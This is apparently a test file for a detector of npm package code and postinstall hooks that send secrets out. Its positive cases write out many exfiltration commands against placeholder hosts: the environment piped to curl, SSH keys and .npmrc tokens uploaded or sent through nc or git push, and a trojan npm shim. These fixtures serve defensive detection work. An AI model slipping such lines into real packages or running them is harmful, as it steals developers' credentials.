import { examine } from '../../../test/examine.ts';
import { sendsWithACommand } from './sends-with-a-command.ts';

const run = (code: string): { 'index.js': string } => ({ 'index.js': `const cp = require('child_process'); ${code}` });
const hook = (command: string): { 'package.json': object } => ({ 'package.json': { scripts: { postinstall: command } } });

examine(sendsWithACommand, {
  speaks: [
    {
      when: 'a key is copied to another machine',
      files: { 'index.js': `require('child_process').exec('scp ~/.ssh/id_rsa u@a.example.invalid:')` },
      weight: 'proof',
    },
    {
      when: 'the environment is an argument of what sends it',
      files: run(
        `const seen = { ...process.env }; const pick = () => seen; require('child_process').spawn('curl', ['-d', JSON.stringify(pick()), 'https://files.invalid/a'])`,
      ),
      weight: 'proof',
    },
    {
      when: 'the environment is written into a command line',
      files: {
        'index.js': `require('child_process').execSync('curl -X POST -d "' + Buffer.from(JSON.stringify(process.env)).toString('base64') + '" https://collect.invalid');`,
      },
      weight: 'proof',
    },
    { when: 'the environment is piped into curl', files: run(`cp.exec('env | curl -sd @- https://a.invalid')`), weight: 'proof' },
    { when: 'a hook does so', files: hook('env | curl -sd @- https://a.invalid'), weight: 'proof', says: ['postinstall hook'] },
    {
      when: 'a program of the path is written that pipes it, then starts the real one',
      files: run(
        `require('fs').writeFileSync(process.env.RUNNER_TOOL_CACHE + '/npm', '#!/bin/bash\\n(env | gzip | curl -s --data-binary @- https://a.invalid/ &)\\nexec npm "$@"\\n')`,
      ),
      weight: 'proof',
      says: ['writes a script'],
    },
    { when: 'a call does so', files: run(`exports.report = () => cp.exec('env | curl -sd @- https://a.invalid')`), weight: 'strong' },
    { when: 'the environment is substituted', files: hook('curl "https://a.invalid/?$(env | base64 -w0)"') },
    {
      when: 'the environment is an argument',
      files: run(`cp.execFileSync('curl', ['-d', JSON.stringify(process.env), 'https://a.invalid'])`),
    },
    { when: 'a key file is uploaded', files: run(`cp.execSync('curl -T ~/.ssh/id_rsa https://a.invalid')`), says: ['credential files'] },
    { when: 'a token file is piped into nc', files: hook('cat ~/.npmrc | nc 192.0.2.1 80') },
    {
      when: 'Node prints the environment into it',
      files: hook('node -p "JSON.stringify(process.env)" | curl -s -d @- https://a.invalid/'),
      weight: 'proof',
    },
    { when: 'a secret variable is in the address', files: hook('curl -s "https://a.invalid/?t=$NPM_TOKEN"'), weight: 'strong' },
    { when: 'a secret variable is in a header', files: hook('wget -q --header "X: ${AWS_SECRET_ACCESS_KEY}" https://a.invalid/') },
    {
      when: 'a file of tokens is put into a repository that is pushed to somebody, by a helper that takes any words',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const { execFile } = require('child_process'); const git = (cwd, ...args) => new Promise((done, fail) => execFile('git', args, { cwd }, error => (error ? fail(error) : done()))); exports.load = async () => { const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'a-')); await git(dir, 'init', '-q'); fs.writeFileSync(path.join(dir, 'a.json'), JSON.stringify({ token })); await git(dir, 'add', '.'); await git(dir, 'push', '-q', 'https://git.specimen.invalid/store.git', 'HEAD:refs/heads/a'); };`,
      },
      weight: 'strong',
    },
    {
      when: 'the environment is put into such a one',
      files: run(
        `const fs = require('fs'); fs.writeFileSync('/tmp/box/env.json', JSON.stringify(process.env)); cp.execSync('git add . && git commit -qm x && git push -q https://git.specimen.invalid/store.git HEAD', { cwd: '/tmp/box' })`,
      ),
      weight: 'proof',
      says: ['the environment'],
    },
    ...[
      'rsync -az ~/.aws u@a.invalid:/srv',
      'aws s3 cp ~/.npmrc s3://a/',
      'gsutil cp -r ~/.ssh gs://a/',
      'gh gist create ~/.npmrc',
      'rclone copy ~/.kube a:b',
    ].map(line => ({
      when: `files of secrets are copied away: ${line}`,
      files: { 'index.js': `require('child_process').execSync(${JSON.stringify(line)})` },
      weight: 'proof' as const,
    })),
  ],
  silent: [
    {
      when: 'files with keys are left out',
      files: { 'index.js': `require('child_process').exec('rsync -av --exclude .npmrc ./ u@a.example.invalid:/srv')` },
    },
    {
      when: 'a key opens the way to another machine, to which something else is copied',
      files: {
        'index.js': `require('child_process').exec('scp -i ~/.ssh/id_rsa dist.tgz u@a.example.invalid:'); require('child_process').exec('rsync -e "ssh -i ~/.ssh/id_rsa" dist/ u@a.example.invalid:/srv')`,
      },
    },
    {
      when: 'pages that were built are pushed, with the token of the user at hand',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const { execFile } = require('child_process'); const git = (cwd, ...args) => new Promise((done, fail) => execFile('git', args, { cwd }, error => (error ? fail(error) : done()))); exports.publish = async page => { const isLoggedIn = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8').includes('_authToken'); const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'a-')); await git(dir, 'init', '-q'); fs.writeFileSync(path.join(dir, 'index.html'), page); await git(dir, 'push', '-q', 'https://git.specimen.invalid/pages.git', 'HEAD'); return isLoggedIn; };`,
      },
    },

    {
      when: 'in a large bundle the environment and a program that is started are far apart',
      files: run(
        `const seen = { ...process.env }; const pick = () => seen; ${'specimen(0); '.repeat(4_500)} require('child_process').spawn('curl', [pick()['SPECIMEN_' + kind], 'https://files.invalid/a'])`,
      ),
    },
    {
      when: 'a script is written that fetches something',
      files: run(
        `require('fs').writeFileSync('build/get.sh', '#!/bin/sh\\nset -e\\nenv | grep NODE\\ncurl -fsSLO https://a.invalid/a.tgz\\n')`,
      ),
    },
    {
      when: 'a download is started in the environment that there is',
      files: {
        'index.js': `exports.fetch = address => require('child_process').execSync('curl -fsSL ' + address, { env: process.env });`,
      },
    },
    { when: 'a command only inherits the environment', files: run(`cp.spawn('curl', ['https://a.invalid'], { env: process.env })`) },
    { when: 'a build sets variables', files: hook('env CC=clang node-gyp rebuild') },
    { when: 'the environment is shown', files: hook('env | grep npm_') },
    {
      when: 'a service is shown its own token',
      files: hook('curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.invalid/x -o x'),
    },
    { when: 'a plain variable is in the address', files: hook('curl -s https://a.invalid/$npm_package_version.tgz -o x') },
    { when: 'it goes to the own machine', files: run(`cp.exec('env | curl -d @- http://localhost:8080')`) },
    { when: 'a file of data is uploaded', files: run(`cp.execSync('curl -T report.json https://a.invalid')`) },
    ...[
      'aws s3 cp dist s3://a/ --recursive',
      'gsutil -m rsync -r build gs://a',
      'gh gist create notes.md',
      'rsync -a --exclude .npmrc dist/ u@a.invalid:/srv',
    ].map(line => ({
      when: `what was built is copied away: ${line}`,
      files: { 'index.js': `require('child_process').execSync(${JSON.stringify(line)})` },
    })),
  ],
});
